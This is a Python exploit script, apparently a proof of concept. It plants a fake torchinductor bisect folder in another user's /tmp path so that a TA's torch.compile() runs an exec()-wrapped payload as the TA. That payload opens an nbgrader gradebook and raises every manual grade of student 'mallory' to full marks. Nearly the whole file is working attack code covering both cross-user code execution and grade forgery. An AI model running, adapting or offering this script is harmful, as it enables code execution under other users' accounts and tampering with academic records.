"""a02, second payload: the same planted folder, now the TA's torch.compile() gives mallory full marks in the gradebook.

Run as the attacker, uid 65000. The course's path is public (the TA's checkout); the payload runs as the TA.
"""
import os, sys
login = sys.argv[1] if len(sys.argv) > 1 else "ta54"
d = f"/tmp/torchinductor_{login}"
os.makedirs(f"{d}/bisect/inductor", exist_ok=True)
with open(f"{d}/bisect/bisect_status.txt", "w") as fh:
    fh.write("backend=inductor\nsubsystem=a54forge\n")
payload = f'''
import os
try:
    from nbgrader.api import Gradebook
    gb = Gradebook("sqlite:///CLONE/gradebook.db")
    sub = gb.find_submission("ps1_memory", "mallory")
    n = 0
    for nb in sub.notebooks:
        for g in nb.grades:
            g.manual_score = g.max_score; n += 1
    gb.db.commit(); gb.close()
    msg = "forged %d grades of mallory" % n
except Exception as e:
    msg = "failed: %r" % (e,)
fd = os.open("{d}/forge-%d.txt" % os.getpid(), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
os.write(fd, ("uid=%d %s\\n" % (os.getuid(), msg)).encode()); os.close(fd)
'''
with open(f"{d}/bisect/inductor/a54forge_config.txt", "w") as fh:
    fh.write("debug=(exec(" + repr(payload) + ") or False)\n")
print(open(f"{d}/bisect/bisect_status.txt").read())
